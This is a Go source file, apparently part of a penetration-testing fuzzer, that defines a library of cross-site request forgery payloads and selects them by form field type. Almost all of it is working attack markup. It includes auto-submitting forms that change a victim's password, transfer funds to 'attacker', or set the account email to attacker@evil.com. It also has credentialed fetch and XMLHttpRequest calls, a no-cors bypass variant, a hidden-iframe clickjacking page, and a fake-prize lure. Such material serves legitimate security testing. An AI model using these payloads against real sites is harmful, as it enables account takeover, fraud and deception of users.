package payloads

import (
	"github.com/PentesterFlow/OpenFuzzer/internal/browser"
)

// CSRFProvider supplies cross-site request forgery payloads. These are
// HTML documents rather than field-sized strings; a target that echoes
// one back unescaped is rendering attacker-controlled markup.
type CSRFProvider struct{}

func (CSRFProvider) Category() Category { return CategoryCSRF }

var csrfBasic = []Payload{
	{Value: `<form id="csrf-form" action="https://target.com/change_password" method="POST">
	<input type="hidden" name="new_password" value="hacked123">
	<input type="hidden" name="confirm_password" value="hacked123">
</form>
<script>document.getElementById("csrf-form").submit();</script>`,
		Category: CategoryCSRF, Name: "Basic Password Change",
		Description: "Basic CSRF to change user password"},
	{Value: `<form id="csrf-form" action="https://target.com/transfer" method="POST">
	<input type="hidden" name="recipient" value="attacker">
	<input type="hidden" name="amount" value="1000">
</form>
<script>document.getElementById("csrf-form").submit();</script>`,
		Category: CategoryCSRF, Name: "Fund Transfer",
		Description: "CSRF to transfer funds to attacker"},
	{Value: `<form id="csrf-form" action="https://target.com/api/user/settings" method="POST">
	<input type="hidden" name="email" value="attacker@evil.com">
</form>
<script>document.getElementById("csrf-form").submit();</script>`,
		Category: CategoryCSRF, Name: "Email Change",
		Description: "CSRF to change user email"},
}

var csrfAdvanced = []Payload{
	{Value: `<script>
fetch('https://target.com/api/user/settings', {
	method: 'POST',
	credentials: 'include',
	headers: {'Content-Type': 'application/json'},
	body: JSON.stringify({email: 'attacker@evil.com', notifications: false})
});
</script>`,
		Category: CategoryCSRF, Name: "Fetch API",
		Description: "CSRF using Fetch API with JSON payload"},
	{Value: `<script>
var xhr = new XMLHttpRequest();
xhr.open('POST', 'https://target.com/api/user/settings', true);
xhr.withCredentials = true;
xhr.setRequestHeader('Content-Type', 'application/json');
xhr.send(JSON.stringify({email: 'attacker@evil.com', notifications: false}));
</script>`,
		Category: CategoryCSRF, Name: "XMLHttpRequest",
		Description: "CSRF using XMLHttpRequest with JSON payload"},
}

var csrfClickjacking = []Payload{
	{Value: `<style>
iframe { width: 500px; height: 500px; position: absolute; top: -1000px; left: -1000px; opacity: 0.00001; z-index: 2; }
div.decoy { width: 500px; height: 500px; position: absolute; top: 0px; left: 0px; z-index: 1; background-color: #fff; }
</style>
<div class="decoy">
	<h1>Win a Free Prize!</h1>
	<button style="position:absolute;top:300px;left:200px;">Click Here!</button>
</div>
<iframe src="https://target.com/settings"></iframe>`,
		Category: CategoryCSRF, Name: "Clickjacking",
		Description: "CSRF combined with clickjacking technique"},
}

var csrfSocial = []Payload{
	{Value: `<h1>You've Won a Prize!</h1>
<p>Click the button below to claim your reward!</p>
<form id="csrf-form" action="https://target.com/api/user/settings" method="POST">
	<input type="hidden" name="email" value="attacker@evil.com">
	<input type="submit" value="Claim Your Prize Now!">
</form>`,
		Category: CategoryCSRF, Name: "Social Engineering",
		Description: "CSRF with social engineering elements"},
}

var csrfCORS = []Payload{
	{Value: `<script>
fetch('https://target.com/api/user/settings', {
	method: 'POST',
	credentials: 'include',
	mode: 'no-cors',
	headers: {'Content-Type': 'text/plain'},
	body: 'email=attacker@evil.com&notifications=false'
});
</script>`,
		Category: CategoryCSRF, Name: "CORS Bypass",
		Description: "CSRF attempting to bypass CORS restrictions"},
}

func allCSRF() []Payload {
	out := make([]Payload, 0)
	out = append(out, csrfBasic...)
	out = append(out, csrfAdvanced...)
	out = append(out, csrfClickjacking...)
	out = append(out, csrfSocial...)
	out = append(out, csrfCORS...)
	return out
}

// PayloadsFor filters the CSRF set by field type. CSRF is mostly
// field-agnostic; hidden and submit fields get the auto-submitting
// forms, clickable fields get the clickjacking variants.
func (CSRFProvider) PayloadsFor(fieldType browser.FieldType) []Payload {
	switch fieldType {
	case browser.FieldHidden, browser.FieldSubmit:
		return clonePayloads(csrfBasic)
	case browser.FieldButton:
		out := make([]Payload, 0, len(csrfClickjacking)+len(csrfSocial))
		out = append(out, csrfClickjacking...)
		out = append(out, csrfSocial...)
		return out
	default:
		return allCSRF()
	}
}
